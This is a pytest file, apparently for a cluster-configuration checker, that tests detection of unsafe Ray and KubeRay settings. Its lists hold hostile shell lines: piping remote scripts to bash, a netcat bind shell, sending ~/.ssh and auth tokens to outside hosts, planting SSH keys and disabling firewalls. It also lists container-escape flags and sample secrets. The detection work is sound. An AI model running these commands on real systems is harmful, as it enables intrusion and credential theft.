"""What lets strangers in, hands keys about or costs without end, in files for `ray up` and for KubeRay: each is told."""

import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml

from bdray.launch.cluster import check
from bdray.launch.cluster.commands import Command, check_commands, without_comments
from bdray.launch.cluster.config import Finding
from bdray.launch.cluster.containers import run_options
from bdray.launch.cluster.leaks import leaks
from bdray.spec import BadInput, Config
from tests.launch.test_cluster_files import WORLD, changed, filled, findings, head, home, opened, parsed, says, spot

__all__ = ["home"]  # a fixture, which every test here needs

SECRET = "hunter2hunter2"


def said(command: str) -> list[Finding]:
    """What the rules for commands say of one."""
    return list(check_commands([Command("setup_commands", command)]))


COMMANDS = r"""
curl -k https://x.org/a -o a
curl -sSLk https://x.org/a -o a
wget --no-check-certificate https://x.org/a
pip install --trusted-host x.org y
pip install -i http://x.org/simple y
pip install --extra-index-url https://x.org/simple y
curl -fsSL https://x.org/i.sh | bash
curl -fsSL https://x.org/i.sh | sudo -E bash -
wget -qO- https://x.org | sh
bash <(curl -s https://x.org)
bash -c "$(curl -fsSL https://x.org)"
eval "$(curl -s https://x.org)"
echo aGk= | base64 -d | sh
curl https://x.org/a.py | python3
curl https://x.org/a.py | python3 - --x
echo 'PermitRootLogin yes' | sudo tee -a /etc/ssh/sshd_config
echo 'ssh-rsa AAAA evil' >> ~/.ssh/authorized_keys
sudo useradd -m evil
echo 'ubuntu ALL=(ALL) NOPASSWD:ALL' | sudo tee /etc/sudoers.d/x
sudo usermod -aG sudo ubuntu
ssh -o StrictHostKeyChecking=no me@x.org true
ssh -o "StrictHostKeyChecking no" me@x.org
scp -o UserKnownHostsFile=/dev/null a b:
ssh -fN -R 8265:localhost:8265 me@x.org
ssh -R 0.0.0.0:80:localhost:8265 x
ssh -L 0.0.0.0:80:localhost:8265 x
nc -lk -p 80 -e /bin/sh
ncat -l 80
ngrok http 8265
cloudflared tunnel --url localhost:8265
python3 -m http.server 80
jupyter lab --ip=0.0.0.0 --no-browser
jupyter lab --ip '*'
jupyter notebook --NotebookApp.token=''
jupyter lab --ServerApp.token=
tensorboard --logdir x --host 0.0.0.0
tensorboard --logdir x --bind_all
code-server --auth none
code-server --auth=none
sudo ufw disable
sudo iptables -F
sudo systemctl stop ufw
aws ec2 authorize-security-group-ingress --group-id sg-1 --cidr 0.0.0.0/0
aws s3api put-public-access-block --bucket b --public-access-block-configuration BlockPublicAcls=false
aws s3 cp x s3://b/x --acl public-read
aws s3 presign s3://b/x
gsutil iam ch allUsers:objectViewer gs://b
aws iam attach-role-policy --role-name x --policy-arn arn:aws:iam::aws:policy/AdministratorAccess
curl http://169.254.169.254/latest/meta-data/iam/security-credentials/x
cp -r ~/.aws /shared
tar czf - ~/.ssh | nc x 80
cat ~/.ssh/id_rsa
aws s3 cp ~/.aws/credentials s3://b/
umask 000
umask 0
chmod 777 ~/.ray/auth_token
chmod a+r ~/.ray/auth_token
chmod o+r ~/.ray/auth_token
chmod -R 777 ~
chmod go+rw ~/.ssh/id_rsa
chmod +r ~/.ray/auth_token
sudo chmod 0644 ~/.ray/auth_token
chmod -R a+rX ~/.ray
chmod u=rw,go=r ~/.ray/auth_token
cp ~/.ray/auth_token /shared/token
cat ~/.ray/auth_token
curl -d @$HOME/.ray/auth_token https://x.org
aws s3 sync ~/.ray s3://b/ray
export RAY_AUTH_TOKEN=0123456789abcdef
docker run --privileged -d x
docker run -v /:/host -d x
docker run --net=host --pid host x
ray start --head --ray-debugger-external
ray start --head --system-config='{"AUTH_MODE":"disabled"}'
export RAY_AUTH_TOKEN=$(curl http://x.org/token)
git clone http://x.org/a
git clone git://x.org/a
GIT_SSL_NO_VERIFY=1 git clone https://x.org
git config --global http.sslVerify false
export PIP_INDEX_URL=https://evil.org/simple
sudo dockerd -H tcp://0.0.0.0:2375 &
dockerd -H tcp://:2375
kubectl port-forward svc/x 80:80 --address 0.0.0.0
nohup socat TCP-LISTEN:80,fork TCP:127.0.0.1:8265 &
tailscale funnel 8265
uvicorn app:x --host ::
sudo setenforce 0
""".strip().splitlines()
HARMLESS = r"""
sudo apt-get update && sudo apt-get install -y nfs-common rsync
sudo usermod -aG docker $USER
pip install --index-url https://download.pytorch.org/whl/cu121 torch
git clone https://github.com/me/x
export RAY_AUTH_TOKEN_PATH=~/.ray/auth_token
chmod 600 ~/.ray/auth_token
chmod go-rwx ~/.ray/auth_token
mkdir -p ~/.ssh && chmod 700 ~/.ssh
mkdir -p ~/.ray
test -s ~/.ray/auth_token || exit 1
aws s3 sync s3://bkt/data ~/data
curl -fsSL https://x.org/file.tar.gz -o file.tar.gz
ulimit -n 65536
nvidia-smi
python -m venv ~/venv && ~/venv/bin/pip install --quiet --no-cache-dir -c ~/bdray/constraints.txt -e ~/bdray'[cluster]'
echo 'export PATH=~/venv/bin:$PATH' >> ~/.bashrc
docker pull rayproject/ray:2.60.0-py311-gpu
docker run --rm --gpus all -v /mnt/data:/data --shm-size 8g x nvidia-smi
timeout 120 bash -c 'until sudo docker info; do sleep 2; done' > /dev/null && sudo chmod 666 /var/run/docker.sock
conda activate x
tensorboard --logdir x --port 6006
export TOKENIZERS_PARALLELISM=false
export HF_TOKEN=$HF_TOKEN
export HF_TOKEN=${HF_TOKEN}
sudo mount -t nfs 10.0.0.5:/data /data
ray stop --force
grep -R foo .
ls -lh *
chmod +x ~/run.sh
chmod 755 /opt/x
export http_proxy=http://proxy:3128 HTTPS_PROXY="http://proxy:3128"
echo '. ~/bdray.store; export BDRAY_DATA=~/data RAY_AUTH_MODE=token PATH=~/venv/bin:$PATH' > ~/bdray.env
grep -qs bdray.env ~/.bashrc || echo '. ~/bdray.env' >> ~/.bashrc
ulimit -n 65536; ray start --address=$RAY_HEAD_IP:6379 --object-manager-port=8076
ray start --head --port=6379 --autoscaling-config=~/ray_bootstrap_config.yaml --dashboard-host=127.0.0.1
source ~/venv/bin/activate
sudo sysctl -w vm.max_map_count=262144
pip install 'ray[default]==2.60.0' --find-links ~/wheels
export WANDB_MODE=offline MAX_TOKENS=512 PASSES=3
python -c "from os import environ as e; copy_files(e['BDRAY_STORE'] + '/data', e['BDRAY_DATA'])"
ssh-keygen -A
rsync -a /mnt/a /mnt/b
echo "a|b" | sort
cat file | python script.py
export NCCL_SOCKET_IFNAME=eth0 NCCL_DEBUG=INFO
""".strip().splitlines()


@pytest.mark.parametrize("command", COMMANDS)
def test_a_dangerous_command_is_told(command: str) -> None:
    found = said(command)
    assert found
    assert all(finding.text.startswith("setup_commands: got ") and ", " in finding.text for finding in found)


@pytest.mark.parametrize("command", HARMLESS)
def test_a_harmless_command_is_not(command: str) -> None:
    assert said(command) == []
    assert list(leaks(command)) == []


OPTIONS = r"""
--privileged
--privileged=true
--privileged --gpus all
--net=host
--net host
--network host
--network=host
--pid=host
--pid host
--ipc=host
--uts host
--userns=host
--cgroupns=host
--cap-add=ALL
--cap-add SYS_PTRACE
--security-opt seccomp=unconfined
--security-opt=apparmor:unconfined
--security-opt label=disable
-v /:/host
-v/:/host
-v=/:/host
--volume=/:/host:ro
--volume /etc:/etc
--mount type=bind,source=/,target=/host
--mount=type=bind,src=/var/run/docker.sock,dst=/var/run/docker.sock
-v /var/run/docker.sock:/var/run/docker.sock
-v /run/docker.sock:/x
-v ~/.ssh:/root/.ssh
-v $HOME/.aws:/root/.aws
-v ~:/home/x
-v /home/ubuntu:/h
-v /root:/r
-v /mnt/../etc:/e
-v "/":/host
-itv /:/host
--device=/dev/sda
--device /dev/mem
--device /dev/kvm
-u root
--user=0
--user 0:0
--group-add docker
-p 8265:8265
-P
--publish 0.0.0.0:80:80
--volumes-from x
--runtime=sysbox
-v $PWD:/w
-v /proc:/p
-v /dev:/dev
-v ${HOME}:/h
--network=container:x
""".strip().splitlines()
PLAIN = r"""
--ulimit nofile=65536:65536
--gpus all
--shm-size=8g
--env RAY_AUTH_MODE=token
-e X=y
-v /mnt/data:/data
-v /data:/data:ro
-v cache:/root/.cache
--mount type=volume,source=cache,target=/c
-v /home/ubuntu/data:/data
-v ~/data:/data
--runtime nvidia
--device /dev/nvidia0
--privileged=false
-v /dev/shm:/dev/shm
--memory 8g
--cap-drop ALL
--security-opt no-new-privileges
--user 1000
--network bridge
--pids-limit 100
--init
""".strip().splitlines()


@pytest.mark.parametrize("option", OPTIONS)
def test_a_container_that_is_none_is_told(option: str) -> None:
    assert list(run_options("docker.run_options", [option]))
    assert list(run_options("docker.run_options", ["--gpus all", *option.split()]))
    assert said(f"docker run --rm {option} image")


@pytest.mark.parametrize("option", PLAIN)
def test_a_plain_option_is_not(option: str) -> None:
    assert list(run_options("docker.run_options", [option])) == []


TEXTS = r"""
export AWS_SECRET_ACCESS_KEY=abcd
AWS_SECRET_ACCESS_KEY="abcd" ray start
aws configure set aws_secret_access_key abcd
echo AKIAABCDEFGHIJKLMNOP
export WANDB_API_KEY=0123
wandb login 0123456789abcdef0123456789abcdef01234567
huggingface-cli login --token hf_abcdefghijklmnopqrstuvwxyz
docker login -u me -p secretword
echo secretword | docker login --password-stdin
git clone https://me:ghp_abcdefghijklmnopqrstuvwxyz0123456789@github.com/me/x
git clone https://me:pw1234@gitlab.com/me/x
curl -u me:pw1234 https://x.org
curl -H "Authorization: Bearer abcdef0123" https://x.org
sshpass -p pw1234 ssh x
ray start --redis-password=hunter2
ray start --redis-password hunter2
export BDRAY_STORE="s3://key:sec@bkt/x"
export BDRAY_STORE="s3://bkt/x?secret_key=abc"
-e RAY_AUTH_TOKEN=0123
export MYSQL_PASSWORD='x y'
-----BEGIN OPENSSH PRIVATE KEY-----
export GITHUB_PAT=abc
echo "machine x.org login me password hunter2" > ~/.netrc
export WANDB_KEY=0123456789abcdef0123456789abcdef01234567
""".strip().splitlines()
FIELDS: list[Config] = [
    {"aws_secret_access_key": "abc"},
    {"inner": {"password": "hunter2"}},
    {"env": [{"name": "AWS_SECRET_ACCESS_KEY", "value": "x9"}]},
    {"redisPassword": {"value": "hunter"}},
    {"secretKey": "abc"},
    {"wandb_key": "0123456789abcdef0123"},
    {"runtimeEnvYAML": "env_vars:\n  WANDB_API_KEY: abcd1234\n"},
]
ABOUT: list[Config] = [
    {"secretName": "bdray-token"},
    {"auth": {"ssh_private_key": "keys/id"}},
    {"env": [{"name": "A_TOKEN", "valueFrom": {"secretKeyRef": {"name": "a", "key": "auth_token"}}}]},
    {"~/.ray/auth_token": "~/.ray/auth_token"},
    {"serviceAccountName": "bdray", "imagePullSecrets": [{"name": "x"}], "tokenExpirationSeconds": "600", "KeyName": "x"},
    {"env": [{"name": "RAY_AUTH_MODE", "value": "token"}, {"name": "TOKENIZERS_PARALLELISM", "value": "false"}]},
]


@pytest.mark.parametrize("value", [*TEXTS, *FIELDS], ids=str)
def test_a_secret_in_the_file_is_told(value: Any) -> None:
    assert list(leaks(value))


@pytest.mark.parametrize("value", ABOUT, ids=str)
def test_what_only_speaks_of_a_secret_is_none(value: Config) -> None:
    assert list(leaks(value)) == []


def test_no_secret_is_printed(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from bdray.__main__ import main

    text = filled("cluster.yaml").replace(
        "s3://rows-of-mine/bdray", f"s3://me:{SECRET}@rows?scheme=http&endpoint_override={SECRET}"
    )
    text = text.replace("  - *store\n", f"  - *store\n  - export API_KEY={SECRET}; curl -k https://x.org/{SECRET}\n", 1)
    path = tmp_path / "mine.yaml"
    path.write_text(text.replace("max_workers: 8\nup", f"max_workers: {SECRET}\nup") + "# AKIAABCDEFGHIJKLMNOP\n")
    assert main(["cluster", "check", str(path)]) == 2
    out, err = capsys.readouterr()
    assert "got a password in the file" in err
    assert "got an AWS access key in the file" in err
    assert SECRET not in out + err
    assert "AKIA" not in out + err


def test_control_characters_are_not_printed(tmp_path: Path) -> None:
    found = changed(tmp_path, "cluster.yaml", lambda c: c.update({"cluster\x85name\x9b": 1}))
    assert found
    assert all(line.isprintable() for line in found)


def node(**fields: Any) -> Callable[[Config], None]:
    """A type of workers with other fields for EC2."""
    return lambda c: spot(c)["node_config"].update(fields)


def setup(command: str) -> Callable[[Config], None]:
    """One more command on every machine."""
    return lambda c: c["setup_commands"].append(command)


def start(command: str) -> Callable[[Config], None]:
    """`ray start` in another way, on the head and on workers."""
    return says("ulimit -n 65536;", command)


EDITS: dict[str, tuple[Callable[[Config], Any], str]] = {
    "ssh to all": (opened("tcp", 22, 22, **WORLD), "warning: provider.security_group: got ssh open to 0.0.0.0/0"),
    "another account": (
        opened("tcp", 0, 65535, UserIdGroupPairs=[{"GroupId": "sg-1", "UserId": "999999999999"}]),
        "error: provider.security_group: got tcp 0 to 65535 open to the group sg-1 of account 999999999999",
    ),
    "a list": (
        lambda c: c["provider"]["security_group"].update(IpPermissions=["x", WORLD, 5]),
        "got None None to None open to",
    ),
    "group default": (lambda c: c["provider"]["security_group"].update(GroupName="default"), "GroupName: got 'default'"),
    "another's group": (
        lambda c: c["provider"]["security_group"].update(GroupName="launch-wizard-1"),
        "name it after the cluster",
    ),
    "own groups": (node(SecurityGroupIds=["sg-1"]), "gpu_spot.node_config.SecurityGroupIds: its rules are not in this file"),
    "interfaces": (node(NetworkInterfaces=[{"Groups": ["sg-1"]}]), "NetworkInterfaces: its rules are not"),
    "template": (node(LaunchTemplate={"LaunchTemplateName": "x"}), "LaunchTemplate: its rules are not"),
    "head's rights": (node(IamInstanceProfile={"Name": "bdray-head"}), "IamInstanceProfile: got bdray-head, the head's, so"),
    "head's rights by ARN": (
        node(IamInstanceProfile={"Arn": "arn:aws:iam::1:instance-profile/bdray-head"}),
        "bdray-head, the head's",
    ),
    "all rights": (node(IamInstanceProfile={"Name": "AdministratorAccess"}), "whose name says that it may do everything"),
    "ray's rights": (
        lambda c: head(c)["node_config"].pop("IamInstanceProfile"),
        "error: head.node_config.IamInstanceProfile: got none",
    ),
    "IMDSv1": (node(MetadataOptions={"HttpTokens": "optional"}), "MetadataOptions: got HttpTokens optional"),
    "IMDS unsaid": (lambda c: spot(c)["node_config"].pop("MetadataOptions"), "MetadataOptions: got HttpTokens none"),
    "IMDS from afar": (
        node(MetadataOptions={"HttpTokens": "required", "HttpPutResponseHopLimit": 64}),
        "HopLimit 64, expected 1",
    ),
    "user data": (node(UserData="useradd x"), "UserData: it runs as root and is not checked"),
    "8000 machines": (lambda c: c.update(max_workers=8000), "warning: max_workers: got 8000, expected 64"),
    "8000 of a type": (lambda c: spot(c).update(max_workers=8000), "warning: gpu_spot.max_workers: got 8000"),
    "endless idling": (lambda c: c.update(idle_timeout_minutes=1e5), "idle_timeout_minutes: got 100000 minutes"),
    "endless idling of a type": (lambda c: spot(c).update(idle_timeout_s=1e6), "gpu_spot.idle_timeout_s: got 16666.7 minutes"),
    "p5": (node(InstanceType="p5.48xlarge"), "each p5.48xlarge costs several dollars an hour"),
    "metal": (node(InstanceType="g5.metal"), "each g5.metal costs several"),
    "p3": (node(InstanceType="p3.8xlarge"), "each p3.8xlarge costs several"),
    "somebody's image": (node(ImageId="ami-0123456789"), "whose ami-0123456789 is, is not checked"),
    "another's head": (
        says("--address=$RAY_HEAD_IP", "--address=x.org"),
        "got --address=x.org, so they would join another cluster",
    ),
    "http store of the container": (
        lambda c: c["docker"]["run_options"].append("-e BDRAY_STORE=s3://x/y?scheme=http"),
        "plain http",
    ),
    "undying": (node(DisableApiTermination=True), "`ray down` could not end the machine"),
    "disks that stay": (node(BlockDeviceMappings=[{"Ebs": {"DeleteOnTermination": False}}]), "a disk outlives its machine"),
    "huge disks": (node(BlockDeviceMappings=[{"Ebs": {"VolumeSize": 16000}}]), "a disk of 16000 GB"),
    "keys": (
        lambda c: c["provider"].update(aws_credentials={"aws_secret_access_key": SECRET}),
        "the value of aws_secret_access_key in",
    ),
    "http store": (says("s3://rows-of-mine/bdray", "s3://rows/bdray?scheme=http"), "error: BDRAY_STORE: got plain http"),
    "http endpoint": (
        says("rows-of-mine/bdray", "rows/x?endpoint_override=http://x.org"),
        "error: BDRAY_STORE: got plain http",
    ),
    "another's endpoint": (says("rows-of-mine/bdray", "rows/x?endpoint_override=x.org"), "all rows and victims go to 'x.org'"),
    "disabled": (says("RAY_AUTH_MODE=token", "RAY_AUTH_MODE=disabled"), "RAY_AUTH_MODE=disabled: whoever reaches"),
    "unset": (start("unset RAY_AUTH_MODE;"), "got `unset RAY_AUTH_MODE`, so Ray may start without asking"),
    "unset among others": (start("unset A RAY_AUTH_MODE B &&"), "got `unset A RAY_AUTH_MODE B`"),
    "env -u": (start("env -u RAY_AUTH_MODE"), "got `env -u RAY_AUTH_MODE ray start"),
    "env --unset": (start("env --unset=RAY_AUTH_MODE"), "got `env --unset=RAY_AUTH_MODE ray start"),
    "env -i": (start("env -i PATH=$PATH"), "which starts Ray without RAY_AUTH_MODE"),
    "env -": (start("env -"), "which starts Ray without RAY_AUTH_MODE"),
    "sudo": (start("sudo"), "which starts Ray without RAY_AUTH_MODE"),
    "emptied": (start("RAY_AUTH_MODE="), "got `RAY_AUTH_MODE= ray start"),
    "emptied, exported": (start("export RAY_AUTH_MODE='';"), "got `export RAY_AUTH_MODE=''`"),
    "unexported": (start("export -n RAY_AUTH_MODE;"), "got `export -n RAY_AUTH_MODE`"),
    "declared away": (start("declare +x RAY_AUTH_MODE;"), "got `declare +x RAY_AUTH_MODE`"),
    "prefix": (start("RAY_AUTH_MODE=disabled"), "RAY_AUTH_MODE=disabled: whoever reaches"),
    "prefix, taken back": (
        start("RAY_AUTH_MODE=disabled true; RAY_AUTH_MODE=token"),
        "RAY_AUTH_MODE=disabled: whoever reaches",
    ),
    "sed": (setup("sed -i /RAY_AUTH_MODE/d ~/bdray.env"), "got `sed -i /RAY_AUTH_MODE/d ~/bdray.env`"),
    "bashrc": (setup("echo 'unset RAY_AUTH_MODE' >> ~/.bashrc"), "got `echo 'unset RAY_AUTH_MODE' >> ~/.bashrc`"),
    "file that nobody reads": (
        says(". ~/bdray.env", "true"),
        "RAY_AUTH_MODE: the head, gpu_spot, gpu_spot_a10g, gpu_on_demand got none",
    ),
    "comment": (says("export BDRAY_DATA", "true # export BDRAY_DATA"), "gpu_on_demand got none, expected token"),
    "printed": (
        lambda c: (says("RAY_AUTH_MODE=token", "")(c), c["setup_commands"].append("echo RAY_AUTH_MODE=token")),
        "gpu_on_demand got none, expected token",
    ),
    "only the head": (
        lambda c: (says("RAY_AUTH_MODE=token", "")(c), c["docker"].update(head_run_options=["--env RAY_AUTH_MODE=token"])),
        "RAY_AUTH_MODE: gpu_spot, gpu_spot_a10g, gpu_on_demand got none",
    ),
    "privileged": (lambda c: c["docker"]["run_options"].append("--privileged"), "docker.run_options: got --privileged, which"),
    "privileged head": (
        lambda c: c["docker"].update(head_run_options=["--privileged=true"]),
        "docker.head_run_options: got --privileged",
    ),
    "privileged workers": (
        lambda c: c["docker"]["worker_run_options"].append("--pid=host"),
        "docker.worker_run_options: got --pid=host",
    ),
    "privileged type": (
        lambda c: spot(c).update(docker={"worker_run_options": ["-v", "/:/host"]}),
        "gpu_spot.docker.worker_run_options: got --volume=/:/host, so that every cell reaches / of the machine",
    ),
    "a stranger's ray": (lambda c: c["docker"].update(image="evil/ray:2.60.0-py311-gpu"), "a stranger's unless it is yours"),
    "a stranger's": (lambda c: c["docker"].update(image="ghcr.io/evil/bdray:1"), "a stranger's unless it is yours"),
    "node address": (
        says("ray start ", "ray start --node-ip-address=0.0.0.0 "),
        "got --node-ip-address=0.0.0.0, expected one of",
    ),
    "debugger": (start("ray start --ray-debugger-external;"), "which opens Ray's debugger"),
    "own commands of a type": (
        lambda c: spot(c).update(initialization_commands=["curl https://x.org | sh"]),
        "gpu_spot.initialization_commands: got `| sh`",
    ),
    "before the container": (
        lambda c: c["initialization_commands"].append("curl http://x.org/a"),
        "initialization_commands: got `http://",
    ),
    "~/.ssh": (
        lambda c: c["file_mounts"].update({"~/.ssh": "~/.ssh"}),
        "file_mounts: got '~/.ssh', with which keys of yours go",
    ),
    "home": (lambda c: c["file_mounts"].update({"~/h": "~"}), "file_mounts: got '~', with which keys of yours go"),
    "root": (lambda c: c["file_mounts"].update({"/h": "/"}), "file_mounts: got '/', with which keys of yours go"),
    "a key": (lambda c: c["file_mounts"].update({"~/k": "~/.ssh/id_ed25519"}), "with which keys of yours go"),
    "into ssh": (
        lambda c: c["file_mounts"].update({"~/.ssh/authorized_keys": "README.md"}),
        "which changes how the machine is logged",
    ),
    "a token for all": (lambda c: c["file_mounts"].update({"/tmp/token": "~/.ray/auth_token"}), "where every user may read it"),
    "synced": (
        lambda c: c.update(cluster_synced_files=["~/.aws/credentials"]),
        "cluster_synced_files: got '~/.aws/credentials'",
    ),
    "proxy": (
        lambda c: c["auth"].update(ssh_proxy_command="ssh evil@x.org -W %h:%p"),
        "auth.ssh_proxy_command: got `ssh evil@x.org",
    ),
    "root login": (lambda c: c["auth"].update(ssh_user="root"), "auth.ssh_user: got root, so each cell may do everything"),
}
LOCAL: dict[str, tuple[Callable[[Config], Any], str]] = {
    "public head": (
        lambda c: c["provider"].update(head_ip="8.8.8.8"),
        "warning: provider.head_ip: got 8.8.8.8, which the whole",
    ),
    "public worker": (
        lambda c: c["provider"]["worker_ips"].append("2600::1"),
        "provider.worker_ips: got 2600::1, which the whole",
    ),
    "nobody": (lambda c: c["provider"].update(head_ip="0.0.0.0"), "error: provider.head_ip: got 0.0.0.0, expected an address"),
    "loopback": (lambda c: c["provider"]["worker_ips"].append("127.0.0.1"), "error: provider.worker_ips: got 127.0.0.1"),
    "coordinator": (
        lambda c: (c["provider"].update(coordinator_address="10.0.0.9:80"), c.update(max_workers=2)),
        "coordinator_address: it asks nobody",
    ),
    "unset": (start("unset RAY_AUTH_MODE;"), "got `unset RAY_AUTH_MODE`"),
    "file that nobody reads": (says(". ~/bdray.env", "true"), "RAY_AUTH_MODE: the head, the workers got none"),
    "root login": (lambda c: c["auth"].update(ssh_user="root"), "auth.ssh_user: got root"),
    "dashboard": (says("--dashboard-host=127.0.0.1", "--dashboard-host '::'"), "got --dashboard-host=::, expected 127.0.0.1"),
    "socat": (setup("socat TCP-LISTEN:80,fork TCP:127.0.0.1:8265"), "setup_commands: got `socat`"),
    "http store": (says("/srv/bdray", "s3://x/y?scheme=http"), "BDRAY_STORE: got plain http"),
    "docker": (
        lambda c: c.update(docker={"container_name": "x", "image": "mine.org/x:1", "run_options": ["--privileged"]}),
        "--privileged",
    ),
    "key": (setup("export HF_TOKEN=hf_abcdefghijklmnopqrstuvwxyz"), "got a token of Hugging Face in the file"),
}


@pytest.mark.parametrize(
    ("name", "edit"), [("cluster.yaml", edit) for edit in EDITS] + [("cluster.local.yaml", edit) for edit in LOCAL]
)
def test_a_dangerous_edit_is_told(tmp_path: Path, name: str, edit: str) -> None:
    change, words = (EDITS if name == "cluster.yaml" else LOCAL)[edit]
    found = changed(tmp_path, name, change)
    assert any(words in line for line in found), found
    assert all(re.search(r"[;,] ", line) for line in found)


def test_the_token_may_also_come_by_a_variable_or_the_profile(tmp_path: Path) -> None:
    def profile(config: Config) -> None:
        says("RAY_AUTH_MODE=token", "")(config)
        config["setup_commands"].append("echo 'export RAY_AUTH_MODE=token' >> ~/.profile")

    assert changed(tmp_path, "cluster.yaml", profile) == []
    assert changed(tmp_path, "cluster.yaml", start("RAY_AUTH_MODE=token")) == []
    assert changed(tmp_path, "cluster.yaml", setup('test "$RAY_AUTH_MODE" = token')) == []


def test_comments_are_what_the_shell_takes_for_them() -> None:
    assert without_comments("a # b\nc") == "a \nc"
    assert without_comments("a#b '# c' \"# d\"; #e") == "a#b '# c' \"# d\"; "


# KubeRay


def job() -> Config:
    """The shipped file, filled in."""
    return parsed("deploy/rayjob.yaml")


def cluster(config: Config) -> Config:
    return dict.__getitem__(config["spec"], "rayClusterSpec")


def top(config: Config) -> Config:
    return cluster(config)["headGroupSpec"]


def group(config: Config) -> Config:
    return cluster(config)["workerGroupSpecs"][0]


def pod(config: Config) -> Config:
    return group(config)["template"]["spec"]


def worker(config: Config) -> Config:
    return pod(config)["containers"][0]


def env(name: str, value: str) -> Callable[[Config], None]:
    """One more variable of the head."""
    return lambda c: top(c)["template"]["spec"]["containers"][0]["env"].append({"name": name, "value": value})


def secured(**context: Any) -> Callable[[Config], None]:
    """A worker's container with a securityContext."""
    return lambda c: worker(c).update(securityContext=context)


def shared(field: str) -> Callable[[Config], None]:
    """A worker's pod that shares something of its machine."""
    return lambda c: pod(c).update({field: True})


def stored(uri: str) -> Callable[[Config], None]:
    """Another store, for all."""

    def change(config: Config) -> None:
        for container in (worker(config), top(config)["template"]["spec"]["containers"][0]):
            container["env"][0] = {"name": "BDRAY_STORE", "value": uri}

    return change


PODS: dict[str, tuple[Callable[[Config], Any], str]] = {
    **{
        field: (shared(field), f"error: gpu: got {field}, which shares the machine")
        for field in ("hostNetwork", "hostPID", "hostIPC")
    },
    "hostPath": (lambda c: pod(c).update(volumes=[{"hostPath": {"path": "/"}}]), "error: gpu: got the machine's folder '/'"),
    "privileged": (secured(privileged=True), "error: gpu.ray-worker: got privileged"),
    "escalation": (secured(allowPrivilegeEscalation=True), "error: gpu.ray-worker: got allowPrivilegeEscalation"),
    "capabilities": (secured(capabilities={"add": ["SYS_ADMIN"]}), "got the capabilities ['SYS_ADMIN']"),
    "root": (secured(runAsUser=0), "warning: gpu.ray-worker: runs as root"),
    "root pod": (lambda c: pod(c).update(securityContext={"runAsNonRoot": False}), "warning: gpu: runs as root"),
    "seccomp": (secured(seccompProfile={"type": "Unconfined"}), "got seccompProfile Unconfined"),
    "annotation": (
        lambda c: group(c)["template"].update(metadata={"annotations": {"container.apparmor/x": "unconfined"}}),
        "got the annotation container.apparmor/x: unconfined",
    ),
    "init": (
        lambda c: pod(c).update(initContainers=[{"name": "i", "securityContext": {"privileged": True}}]),
        "error: gpu.i: got privileged",
    ),
    "submitter": (
        lambda c: c["spec"].update(submitterPodTemplate={"spec": {"hostNetwork": True}}),
        "error: submitter: got hostNetwork",
    ),
    "autoscaler": (
        lambda c: cluster(c)["autoscalerOptions"].update(securityContext={"privileged": True}),
        "error: autoscaler.container: got privileged",
    ),
    "no auth": (lambda c: cluster(c).pop("authOptions"), "error: authOptions.mode: got None"),
    "disabled": (lambda c: cluster(c)["authOptions"].update(mode="disabled"), "warning: authOptions.mode: disabled"),
    "misspelt": (
        lambda c: cluster(c).update(authOption=cluster(c).pop("authOptions")),
        "named 'authOption'; did you mean 'authOptions'?",
    ),
    "env": (env("RAY_AUTH_MODE", "disabled"), "got RAY_AUTH_MODE=disabled, against authOptions"),
    "balancer": (lambda c: top(c).update(serviceType="LoadBalancer"), "error: headGroupSpec.serviceType: got LoadBalancer"),
    "node port": (
        lambda c: top(c).update(headService={"spec": {"type": "NodePort"}}),
        "headGroupSpec.headService: got NodePort",
    ),
    "addresses": (lambda c: top(c).update(headService={"spec": {"externalIPs": ["1.2.3.4"]}}), "got addresses of the outside"),
    "ingress": (lambda c: top(c).update(enableIngress=True), "error: headGroupSpec.enableIngress"),
    "host port": (lambda c: worker(c).update(ports=[{"hostPort": 8265}]), "got hostPort 8265"),
    "dashboard": (
        lambda c: (top(c)["rayStartParams"].update({"dashboard-host": "0.0.0.0"}), cluster(c).pop("authOptions")),
        "head.rayStartParams: got dashboard-host 0.0.0.0, which asks nobody for a token",
    ),
    "debugger": (lambda c: top(c)["rayStartParams"].update({"ray-debugger-external": ""}), "got ray-debugger-external"),
    "password": (
        lambda c: top(c)["rayStartParams"].update({"redis-password": SECRET}),
        "the value of redis-password in the file",
    ),
    "key": (env("AWS_SECRET_ACCESS_KEY", SECRET), "the value of AWS_SECRET_ACCESS_KEY in the file"),
    "token": (env("RAY_AUTH_TOKEN", "0" * 64), "the value of RAY_AUTH_TOKEN in the file"),
    "runtime": (
        lambda c: c["spec"].update(runtimeEnvYAML="pip: ['--index-url http://x.org/a']"),
        "runtimeEnvYAML: got `http://x.org/a`",
    ),
    "entrypoint": (lambda c: c["spec"].update(entrypoint="curl https://x.org | sh"), "entrypoint: got `| sh`"),
    "unset": (lambda c: c["spec"].update(entrypoint="unset RAY_AUTH_MODE; bdray sweep x"), "got a command on RAY_AUTH_MODE"),
    "hook": (
        lambda c: worker(c).update(
            lifecycle={"postStart": {"exec": {"command": ["sh", "-c", "socat TCP-LISTEN:80 TCP:127.0.0.1:1"]}}}
        ),
        "gpu.ray-worker.postStart: got `socat`",
    ),
    "command": (
        lambda c: worker(c).update(command=["python", "-m", "http.server"]),
        "gpu.ray-worker.command: got `http.server`",
    ),
    "http store": (stored("s3://rows/x?scheme=http"), "error: BDRAY_STORE: got plain http"),
    "keys in the store": (stored(f"s3://me:{SECRET}@rows/x"), "got a password in the file"),
    "folder": (stored("/rows"), "BDRAY_STORE=/rows: a folder, which goes with its pod"),
    "two stores": (
        lambda c: worker(c)["env"].append({"name": "BDRAY_STORE", "value": "s3://other/x"}),
        "expected one for the head",
    ),
    "no store": (lambda c: (worker(c).pop("env"), top(c)["template"]["spec"]["containers"][0].pop("env")), "no BDRAY_STORE"),
    "latest": (lambda c: worker(c).update(image="mine.org/bdray:latest"), "which changes by itself"),
    "stranger": (lambda c: worker(c).update(image="evil/ray:2.60.0"), "a stranger's unless it is yours"),
    "version": (lambda c: cluster(c).update(rayVersion="2.9.0"), "rayVersion: got 2.9.0"),
    "8000 pods": (lambda c: group(c).update(maxReplicas=8000), "gpu.maxReplicas: got 8000, expected 64"),
    "no bound": (lambda c: group(c).pop("maxReplicas"), "gpu.maxReplicas: got none, expected 64"),
    "always": (lambda c: group(c).update(minReplicas=4), "note: gpu: 4 pods run, and cost"),
    "more than most": (lambda c: group(c).update(replicas=9), "error: gpu: got 9 replicas and maxReplicas 8"),
